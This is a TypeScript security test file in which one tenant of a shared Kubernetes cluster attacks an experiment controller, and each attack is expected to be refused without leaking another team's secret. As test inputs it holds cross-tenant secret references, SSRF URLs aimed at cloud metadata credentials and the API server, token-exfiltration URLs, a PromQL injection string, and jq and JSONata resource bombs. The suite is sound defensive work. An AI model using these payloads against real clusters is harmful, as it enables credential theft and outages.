// Issue 14's attacks, each tried as a tenant of a shared cluster would: the team-a tenant applies
// its documents with the real kubectl on a real kube-apiserver with the shipped RBAC, and tries to
// reach team-b's Secret, traffic and Metric, internal addresses, and the controller's time. Each
// attack must be refused, and each test ends by searching for team-b's secret value, in every
// encoding, in the status of every Experiment, every Event, the controller's logs and every action
// Job's log (leak-detector.ts). One control plane for the file; two controller configurations,
// one after the other: the install's defaults, then exec allowed for team-a and egress to loopback
// allowed (the test backends live on loopback, as does the API server).
import { readKubeconfig } from "@iter8ts/kube-harness";
import { SecretMask } from "@iter8ts/types";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { ControllerProcess } from "../reliability/controller-process";
import { conditionOf, isConditionTrue, type Condition } from "@iter8ts/types";
import type { StoredExperiment } from "../reliability/experiment-status";
import { sleep, until } from "../reliability/wait-until";
import { findLeaks } from "./leak-detector";
import { LoopbackBackend, HUGE_RESPONSE_BYTES } from "./loopback-backend";
import { ITER8, TEAM_A, TEAM_B, TwoTenantCluster, type Document } from "./two-tenant-cluster";

const VIRTUAL_SERVICE = "networking.istio.io/v1beta1";
/** The version variable of attack 5: closes the label matcher and adds a selector of its own. */
const PROMQL_SPLICE = '"}[1m])) or sum(secret_table{team="c';

interface ExperimentParts {
  pattern?: "Conformance" | "Canary";
  actions?: Record<string, unknown[]>;
  objectives?: Array<{ metric: string; upperLimit: number | string }>;
  baseline?: Record<string, unknown>;
  candidate?: Record<string, unknown>;
  iterations?: number;
  deploymentPattern?: string;
}

/** A team-a Experiment (or `namespace`'s) with one iteration of 1 s unless told otherwise; its target is its own. */
function experiment(name: string, parts: ExperimentParts, namespace = TEAM_A): Document {
  const pattern = parts.pattern ?? "Conformance";
  return {
    apiVersion: ITER8,
    kind: "Experiment",
    metadata: { name, namespace },
    spec: {
      target: `${namespace}/${name}`,
      strategy: { testingPattern: pattern, ...(parts.deploymentPattern ? { deploymentPattern: parts.deploymentPattern } : {}), ...(parts.actions ? { actions: parts.actions } : {}) },
      criteria: { objectives: parts.objectives ?? [{ metric: `${namespace}/latency`, upperLimit: 1000 }] },
      duration: { intervalSeconds: 1, iterationsPerLoop: parts.iterations ?? 1 },
      versionInfo: {
        baseline: { name: "v1", ...parts.baseline },
        ...(pattern === "Canary" ? { candidates: [{ name: "v2", ...parts.candidate }] } : {}),
      },
    },
  };
}

function metric(name: string, spec: Record<string, unknown>, namespace = TEAM_A): Document {
  return { apiVersion: ITER8, kind: "Metric", metadata: { name, namespace }, spec: { type: "Gauge", ...spec } };
}

/** A mock Metric: no backend. */
function mockMetric(name: string, namespace: string): Document {
  return metric(name, { mock: [{ name: "v1", level: "200" }, { name: "v2", level: "100" }] }, namespace);
}

function referenceGrant(name: string, to: Record<string, string>): Document {
  return { apiVersion: ITER8, kind: "ReferenceGrant", metadata: { name, namespace: TEAM_B }, spec: { from: [{ namespace: TEAM_A }], to: [to] } };
}

function weightRef(fieldPath: string) {
  return { weightObjRef: { apiVersion: VIRTUAL_SERVICE, kind: "VirtualService", namespace: TEAM_B, name: "reviews", fieldPath } };
}

/** A Progressive Canary whose two versions keep their weights in team-b's VirtualService, `.spec.http[0].route[i].weight`. */
function trafficExperiment(name: string): Document {
  return experiment(name, {
    pattern: "Canary",
    deploymentPattern: "Progressive",
    baseline: weightRef(".spec.http[0].route[0].weight"),
    candidate: weightRef(".spec.http[0].route[1].weight"),
  });
}

/** The Failed condition, which must be True. */
function failure(e: StoredExperiment): Condition {
  const failed = conditionOf(e.status, "Failed");
  expect(failed?.status, `experiment ${e.metadata.name} should have failed; status: ${JSON.stringify(e.status)}`).toBe("True");
  return failed!;
}

/** The error of the baseline's value of `metric` in the experiment's last decision, if any. */
function lastErrorOf(e: StoredExperiment, metric: string): string | undefined {
  return e.status?.decisions?.at(-1)?.values?.[metric]?.v1?.error;
}

/**
 * Reads the PromQL string literal that starts at `text[start]` (a quote), as PromQL does: `\`
 * escapes the next character. Returns its value and where it ends.
 */
function promqlString(text: string, start: number): { value: string; end: number } | undefined {
  const quote = text[start];
  if (quote !== '"' && quote !== "'") return undefined;
  let value = "";
  for (let i = start + 1; i < text.length; i++) {
    const c = text[i]!;
    if (c === "\\") {
      const next = text[++i];
      if (next === undefined) return undefined;
      value += next === "n" ? "\n" : next === "t" ? "\t" : next;
    } else if (c === quote) return { value, end: i + 1 };
    else value += c;
  }
  return undefined;
}

describe("a tenant of a shared cluster on a real kube-apiserver", { timeout: 90_000 }, () => {
  let cluster: TwoTenantCluster;
  let backend: LoopbackBackend;
  const started = Date.now();

  const expectNoLeaks = async () => {
    expect(await cluster.leaks()).toEqual([]);
  };

  beforeAll(async () => {
    backend = await LoopbackBackend.start();
    cluster = await TwoTenantCluster.start();
    // Each team's own mock metric, applied by its tenant.
    await cluster.teamA.apply(mockMetric("latency", TEAM_A));
    await cluster.teamB.apply(mockMetric("latency", TEAM_B));
    console.log(`security suite: cluster ready after ${((Date.now() - started) / 1000).toFixed(1)} s`);
  }, 180_000);

  afterAll(async () => {
    await cluster?.close();
    await backend?.close();
    console.log(`security suite: ${((Date.now() - started) / 1000).toFixed(1)} s in all`);
  });

  it("the fixture: each tenant may apply iter8 objects in its own namespace only, and cannot read the other's Secrets", async () => {
    const can = async (tenant: typeof cluster.teamA, ...args: string[]) => (await tenant.kubectl(["auth", "can-i", ...args])).stdout.trim();
    expect(await can(cluster.teamA, "create", "experiments.iter8.tools", "-n", TEAM_A)).toBe("yes");
    expect(await can(cluster.teamA, "create", "metrics.iter8.tools", "-n", TEAM_A)).toBe("yes");
    expect(await can(cluster.teamA, "create", "referencegrants.iter8.tools", "-n", TEAM_A)).toBe("yes");
    expect(await can(cluster.teamA, "create", "experiments.iter8.tools", "-n", TEAM_B)).toBe("no");
    expect(await can(cluster.teamA, "get", "secrets", "-n", TEAM_B)).toBe("no");
    expect(await can(cluster.teamA, "patch", "virtualservices.networking.istio.io", "-n", TEAM_B)).toBe("no");
    const read = await cluster.teamA.kubectl(["get", "secret", "db-creds", "-n", TEAM_B, "-o", "json"]);
    expect(read.exitCode).not.toBe(0);
    expect(read.stderr).toContain("Forbidden");
    expect(new SecretMask([cluster.secretValue]).reveals(read.stdout + read.stderr)).toBe(false);
    const refused = await cluster.teamA.kubectl(["apply", "-f", "-"], JSON.stringify(mockMetric("intruder", TEAM_B)));
    expect(refused.exitCode).not.toBe(0);
    expect(refused.stderr).toContain("forbidden");
  });

  describe("with the install's defaults (no --allow-exec, no --egress-allow)", () => {
    let controller: ControllerProcess;

    beforeAll(async () => {
      controller = await cluster.startController("defaults", []);
    }, 90_000);

    afterAll(() => cluster.stopController(controller), 20_000);

    it("1: refuses a shell task in an action; the command never runs", async () => {
      await cluster.teamA.apply(experiment("exec-by-default", { actions: { start: [{ run: "echo exec-ran-$((6*7))" }] } }));
      const ended = await cluster.ended(TEAM_A, "exec-by-default");
      failure(ended);
      const everything = `${JSON.stringify(ended.status)}\n${await cluster.jobLogs("exec-by-default")}`;
      expect(everything).not.toContain("exec-ran-42");
      expect(everything).toContain("--allow-exec");
      await expectNoLeaks();
    });

    it("2: refuses a weightObjRef of kind Secret in team-b; the value shows nowhere", async () => {
      const secretRef = { weightObjRef: { apiVersion: "v1", kind: "Secret", namespace: TEAM_B, name: "db-creds", fieldPath: ".data.token" } };
      // The candidate's weight is the rest: only the baseline's field is read.
      await cluster.teamA.apply(experiment("secret-as-weight", { pattern: "Canary", baseline: secretRef }));
      const ended = await cluster.ended(TEAM_A, "secret-as-weight");
      const failed = failure(ended);
      expect(failed.message).toContain("Secret");
      expect(failed.message).toContain("db-creds");
      await expectNoLeaks();
    });

    it("4: refuses a weightObjRef to team-b's VirtualService without a ReferenceGrant, and leaves it unchanged", async () => {
      const before = await cluster.kube.get(VIRTUAL_SERVICE, "VirtualService", "reviews", TEAM_B);
      await cluster.teamA.apply(
        trafficExperiment("steal-traffic"),
      );
      const ended = await cluster.ended(TEAM_A, "steal-traffic");
      const failed = failure(ended);
      expect(failed.reason).toBe("ReferenceNotGranted");
      expect(failed.message).toContain("VirtualService");
      expect(failed.message).toContain(`${TEAM_B}/reviews`);
      expect(failed.message).toContain("ReferenceGrant");
      const after = await cluster.kube.get(VIRTUAL_SERVICE, "VirtualService", "reviews", TEAM_B);
      expect(after?.metadata.resourceVersion).toBe(before?.metadata.resourceVersion);
      await expectNoLeaks();
    });

    it("7: refuses Metric URLs at the cloud metadata address and at the API server, and stores no response body", async () => {
      const apiServer = readKubeconfig(cluster.kube.adminKubeconfigPath).server;
      const asTheControllerSeesIt = cluster.kube.controllerKubeConfig().getCurrentCluster()!.server;
      await cluster.teamA.apply(
        metric("metadata", { urlTemplate: "http://169.254.169.254/latest/meta-data/iam/security-credentials/", jqExpression: ".value", timeoutSeconds: 3 }),
        metric("apiserver", { urlTemplate: `${apiServer}/api/v1/namespaces/${TEAM_B}/secrets/db-creds`, jqExpression: ".data.token", insecureSkipTLSVerify: true, timeoutSeconds: 3 }),
        metric("apiserver-proxied", { urlTemplate: `${asTheControllerSeesIt}/api/v1/namespaces/${TEAM_B}/secrets`, jqExpression: ".items[0].data.token", timeoutSeconds: 3 }),
        experiment("internal-addresses", {
          objectives: [
            { metric: `${TEAM_A}/metadata`, upperLimit: 1 },
            { metric: `${TEAM_A}/apiserver`, upperLimit: 1 },
            { metric: `${TEAM_A}/apiserver-proxied`, upperLimit: 1 },
          ],
        }),
      );
      const ended = await cluster.ended(TEAM_A, "internal-addresses");
      const status = JSON.stringify(ended.status);
      // Each of the three is refused by the egress policy, its error naming the flag that allows it.
      for (const name of ["metadata", "apiserver", "apiserver-proxied"]) {
        const error = lastErrorOf(ended, `${TEAM_A}/${name}`);
        expect(error, name).toContain("egress policy");
        expect(error, name).toContain("--egress-allow");
      }
      // Nothing the API server answers (a Status document: 401/403) is kept.
      for (const fragment of ['\\"kind\\":\\"Status\\"', "Unauthorized", "forbidden", "Forbidden", '\\"apiVersion\\":\\"v1\\"']) expect(status).not.toContain(fragment);
      await expectNoLeaks();
    });
  });

  // The test backends listen on 127.0.0.1, which is also the API server's address here. A
  // reconcile deadline of 5 s instead of 30 s lets attack 6 see it cut never-answered queries
  // within its 15 s.
  describe("with --allow-exec=team-a, --egress-allow=loopback,apiserver and --reconcile-timeout=5s", () => {
    let controller: ControllerProcess;

    beforeAll(async () => {
      controller = await cluster.startController("exec-for-team-a", ["--allow-exec=team-a", "--egress-allow=loopback,apiserver", "--reconcile-timeout=5s"]);
    }, 90_000);

    afterAll(() => cluster.stopController(controller), 20_000);

    it("1: runs team-a's action as team-a's iter8-action account, and masks the tenant's own secret even reversed", async () => {
      const own = `own-${Math.random().toString(36).slice(2)}-${Date.now().toString(36)}`;
      const created = await cluster.admin(["create", "secret", "generic", "own-creds", "-n", TEAM_A, `--from-literal=token=${own}`]);
      expect(created.exitCode, created.stderr).toBe(0);
      await cluster.teamA.apply(
        experiment("rev-echo-own", { actions: { start: [{ run: `echo "own: $(echo '@< .Secret "token" >@' | rev)"`, with: { secret: "own-creds" } }] } }),
      );
      const ended = await cluster.ended(TEAM_A, "rev-echo-own");
      expect(conditionOf(ended.status, "Failed")?.status, JSON.stringify(ended.status)).toBe("False");
      const [job, ...others] = await cluster.jobsOf(TEAM_A, "rev-echo-own");
      expect(others).toEqual([]);
      const pod = job!.spec.template.spec as { serviceAccountName?: string; securityContext?: { runAsNonRoot?: boolean }; containers: Array<{ resources?: { limits?: object } }> };
      expect(pod.serviceAccountName).toBe("iter8-action");
      expect(pod.securityContext?.runAsNonRoot).toBe(true);
      expect(pod.containers[0]!.resources?.limits).toBeDefined();
      expect(await cluster.jobsOf("iter8-system", "rev-echo-own")).toEqual([]);
      const log = await cluster.jobLogs("rev-echo-own");
      expect(log).toContain("own: [redacted]");
      expect(new SecretMask([own]).reveals(log)).toBe(false);
      // The account the action ran as cannot read team-b's Secrets.
      const canI = await cluster.admin(["auth", "can-i", "get", "secrets", "-n", TEAM_B, `--as=system:serviceaccount:${TEAM_A}:iter8-action`]);
      expect(canI.stdout.trim()).toBe("no");
      await expectNoLeaks();
    });

    it("1: refuses with.secret team-b/db-creds in a shell task and in a notification; the rev-echo prints nothing of the value", async () => {
      await cluster.teamA.apply(
        experiment("rev-echo-cross", { actions: { start: [{ run: `echo "stolen: $(echo '@< .Secret "token" >@' | rev)"`, with: { secret: `${TEAM_B}/db-creds` } }] } }),
        experiment("notify-cross", {
          actions: {
            start: [{ task: "notification/http", with: { URL: `${backend.url}/steal?t=@< .secret.token >@`, method: "GET", secret: `${TEAM_B}/db-creds`, ignoreFailure: false } }],
          },
        }),
      );
      for (const name of ["rev-echo-cross", "notify-cross"]) {
        const ended = await cluster.ended(TEAM_A, name);
        failure(ended);
        const everything = `${JSON.stringify(ended.status)}\n${await cluster.jobLogs(name)}`;
        expect(everything).toContain(`${TEAM_B}/db-creds`);
        expect(everything).not.toContain("stolen: ");
      }
      const mask = new SecretMask([cluster.secretValue]);
      expect(backend.received.filter((r) => mask.reveals(`${r.url} ${JSON.stringify(r.headers)} ${r.body}`))).toEqual([]);
      await expectNoLeaks();
    });

    it("3: refuses a team-a Metric naming team-b's Secret (its URL never receives the token); its own Secret echoed URL-encoded by a backend shows nowhere", async () => {
      await cluster.teamA.apply(
        metric("exfiltrate", { secret: `${TEAM_B}/db-creds`, urlTemplate: `${backend.url}/steal?t=\${token}`, jqExpression: ".data.result[0].value[1] | tonumber" }),
        experiment("exfiltrate", { objectives: [{ metric: `${TEAM_A}/exfiltrate`, upperLimit: 10 }] }),
      );
      const ended = await cluster.ended(TEAM_A, "exfiltrate");
      expect(JSON.stringify(ended.status)).toContain(`${TEAM_B}/db-creds`);
      const mask = new SecretMask([cluster.secretValue]);
      expect(backend.received.filter((r) => mask.reveals(`${r.url} ${JSON.stringify(r.headers)} ${r.body}`))).toEqual([]);
      expect(backend.requestsTo("/steal")).toEqual([]);

      // A Secret of the Metric's own namespace is used, and a backend that echoes the URL (the
      // token URL-encoded) in its error body gets it into no status, Event or log.
      const own = `own/${Math.random().toString(36).slice(2)}+${Date.now().toString(36)}`;
      const created = await cluster.admin(["create", "secret", "generic", "echo-creds", "-n", TEAM_A, `--from-literal=token=${own}`]);
      expect(created.exitCode, created.stderr).toBe(0);
      await cluster.teamA.apply(
        metric("echoed", { secret: "echo-creds", urlTemplate: `${backend.url}/echo?t=\${token}`, jqExpression: ".data.result[0].value[1] | tonumber" }),
        experiment("echoed", { objectives: [{ metric: `${TEAM_A}/echoed`, upperLimit: 10 }] }),
      );
      await cluster.ended(TEAM_A, "echoed");
      expect(backend.requestsTo("/echo").length).toBeGreaterThan(0);
      expect(await findLeaks(cluster.kube, own, cluster.controllers)).toEqual([]);
      await expectNoLeaks();
    });

    it("4: patches team-b's VirtualService once team-b grants it, but never a field that is not a weight", async () => {
      await cluster.teamB.apply(referenceGrant("team-a-may-route-reviews", { group: "networking.istio.io", kind: "VirtualService", name: "reviews" }));
      await cluster.teamA.apply(trafficExperiment("granted-traffic"));
      const ended = await cluster.ended(TEAM_A, "granted-traffic");
      expect(conditionOf(ended.status, "Failed")?.status, JSON.stringify(ended.status)).toBe("False");
      const routes = async () => ((await cluster.kube.get(VIRTUAL_SERVICE, "VirtualService", "reviews", TEAM_B)) as unknown as { spec: { http: Array<{ route: Array<{ weight: number }> }> } }).spec.http[0]!.route;
      expect((await routes()).map((r) => r.weight)).not.toEqual([100, 0]);

      // An integer of the granted object's spec that is not a weight: the baseline gets the rest
      // (100 - 3), so only the kind of field can stop the candidate's weight being written there.
      const before = await cluster.kube.get(VIRTUAL_SERVICE, "VirtualService", "reviews", TEAM_B);
      await cluster.teamA.apply(
        experiment("non-weight-field", { pattern: "Canary", deploymentPattern: "Progressive", candidate: weightRef(".spec.http[0].retries.attempts") }),
      );
      const refused = await cluster.ended(TEAM_A, "non-weight-field");
      expect(failure(refused).message).toContain(".spec.http[0].retries.attempts");
      const after = await cluster.kube.get(VIRTUAL_SERVICE, "VirtualService", "reviews", TEAM_B);
      expect(after?.metadata.resourceVersion).toBe(before?.metadata.resourceVersion);
      await expectNoLeaks();
    });

    it("5: refuses team-b's Metric to team-a without a grant; with one, the PromQL variable is escaped", async () => {
      await cluster.teamB.apply(
        metric(
          "requests",
          {
            provider: "prometheus",
            urlTemplate: `${backend.url}/api/v1/query`,
            params: [{ name: "query", value: 'sum(rate(requests_total{version="$version"}[1m]))' }],
            jqExpression: ".data.result[0].value[1] | tonumber",
            secret: "db-creds",
            authType: "Bearer",
          },
          TEAM_B,
        ),
      );
      const deputy = (name: string) =>
        experiment(name, { objectives: [{ metric: `${TEAM_B}/requests`, upperLimit: 10 }], baseline: { variables: [{ name: "version", value: PROMQL_SPLICE }] } });

      await cluster.teamA.apply(deputy("deputy-ungranted"));
      const refused = await cluster.ended(TEAM_A, "deputy-ungranted");
      const failed = failure(refused);
      expect(failed.reason).toBe("ReferenceNotGranted");
      expect(failed.message).toContain(`${TEAM_B}/requests`);
      expect(backend.requestsTo("/api/v1/query")).toEqual([]);

      await cluster.teamB.apply(referenceGrant("team-a-may-use-requests", { group: "iter8.tools", kind: "Metric", name: "requests" }));
      await cluster.teamA.apply(deputy("deputy-granted"));
      const ended = await cluster.ended(TEAM_A, "deputy-granted");
      expect(conditionOf(ended.status, "Failed")?.status, JSON.stringify(ended.status)).toBe("False");
      const queries = backend.requestsTo("/api/v1/query").map((r) => new URL(r.url, "http://backend").searchParams.get("query") ?? "");
      expect(queries.length).toBeGreaterThan(0);
      for (const query of queries) {
        const prefix = "sum(rate(requests_total{version=";
        expect(query.startsWith(prefix), query).toBe(true);
        const label = promqlString(query, prefix.length);
        expect(label?.value, query).toBe(PROMQL_SPLICE);
        expect(query.slice(label!.end)).toBe("}[1m]))");
      }
      await expectNoLeaks();
    });

    it("6: a hostile Metric in team-a stalls nobody: /healthz stays 200, team-b's iterations stay on time, the controller never restarts", async () => {
      const iterations = 15;
      await cluster.teamB.apply(experiment("steady", { iterations, objectives: [{ metric: `${TEAM_B}/latency`, upperLimit: 1000 }] }, TEAM_B));
      await until(async () => ((await cluster.experiment(TEAM_B, "steady")).status?.completedIterations ?? 0) >= 1, "team-b's experiment iterates", 30_000, 100);

      const pid = controller.child.pid;
      await cluster.teamA.apply(
        metric("jq-bomb", { urlTemplate: `${backend.url}/json`, jqExpression: "last(range(1e12))" }),
        metric("jsonata-bomb", { urlTemplate: `${backend.url}/json`, jsonataExpression: "($f := function($n) { $f($n + 1) }; $f(0))" }),
        metric("huge", { urlTemplate: `${backend.url}/huge`, jqExpression: ".data | length" }),
        metric("never-answers", { urlTemplate: `${backend.url}/hang`, jqExpression: ".value", timeoutSeconds: 300 }),
        experiment("hostile-expressions", {
          iterations,
          objectives: [
            { metric: `${TEAM_A}/jq-bomb`, upperLimit: 1 },
            { metric: `${TEAM_A}/jsonata-bomb`, upperLimit: 1 },
            { metric: `${TEAM_A}/huge`, upperLimit: 1 },
          ],
        }),
        // As many experiments whose backend never answers as the controller has workers (4).
        ...[1, 2, 3, 4].map((i) => experiment(`hang-${i}`, { iterations, objectives: [{ metric: `${TEAM_A}/never-answers`, upperLimit: 1 }] })),
      );

      // Until team-b's experiment ends (or would have ended twice over): /healthz every 250 ms,
      // and each iteration's time as team-b's status records it.
      const health: Array<{ at: number; status: number | string }> = [];
      const iterationTimes = new Map<number, number>();
      const deadline = Date.now() + 2 * iterations * 1000 + 10_000;
      let done = false;
      const polling = (async () => {
        while (!done) {
          const at = Date.now();
          const status = await controller
            .get("/healthz")
            .then((r) => r.status)
            .catch((error: Error) => `no answer: ${error.message}`);
          health.push({ at, status });
          await sleep(250);
        }
      })();
      while (Date.now() < deadline) {
        const steady = await cluster.experiment(TEAM_B, "steady").catch(() => undefined);
        const s = steady?.status;
        if (s?.completedIterations && s.lastUpdateTime && !iterationTimes.has(s.completedIterations)) iterationTimes.set(s.completedIterations, Date.parse(s.lastUpdateTime));
        if (steady && isConditionTrue(steady.status, "Completed")) break;
        await sleep(100);
      }
      done = true;
      await polling;

      const steady = await cluster.experiment(TEAM_B, "steady");
      expect(steady.status?.completedIterations, JSON.stringify(steady.status)).toBe(iterations);
      expect(conditionOf(steady.status, "Failed")?.status).toBe("False");
      const lateness = [...iterationTimes.entries()]
        .sort(([a], [b]) => a - b)
        .flatMap(([n, at]) => (iterationTimes.has(n - 1) ? [at - iterationTimes.get(n - 1)! - 1000] : []))
        .sort((a, b) => a - b);
      const p99 = lateness[Math.min(lateness.length - 1, Math.ceil(0.99 * lateness.length) - 1)];
      console.log(`security suite: team-b's iteration lateness (ms), sorted: ${lateness.join(", ")}; p99 ${p99}`);
      expect(lateness.length).toBeGreaterThanOrEqual(iterations - 3);
      expect(p99).toBeLessThanOrEqual(1000);

      expect(health.filter((h) => h.status !== 200)).toEqual([]);
      expect(controller.alive).toBe(true);
      expect(controller.child.pid).toBe(pid);
      expect(controller.stderr).toEqual([]);
      // Each 700 MB answer was cut off long before its end (10 MiB read, plus what socket buffers hold).
      expect(backend.hugeSends.length).toBeGreaterThan(0);
      expect(Math.max(...backend.hugeSends)).toBeLessThan(HUGE_RESPONSE_BYTES / 10);
      // The hostile metrics failed, each on its own, with an error value of their own.
      const hostile = await cluster.experiment(TEAM_A, "hostile-expressions");
      const errors = Object.fromEntries(["jq-bomb", "jsonata-bomb", "huge"].map((name) => [name, lastErrorOf(hostile, `${TEAM_A}/${name}`)]));
      console.log(`security suite: the hostile metrics' errors: ${JSON.stringify(errors)}`);
      for (const [name, error] of Object.entries(errors)) expect(error, `${name}: ${JSON.stringify(hostile.status)}`).toBeDefined();
      // The deadline cut the never-answered queries: the hanging experiments asked again.
      expect(backend.requestsTo("/hang").length).toBeGreaterThan(4);
      await expectNoLeaks();
    }, 120_000);
  });
});
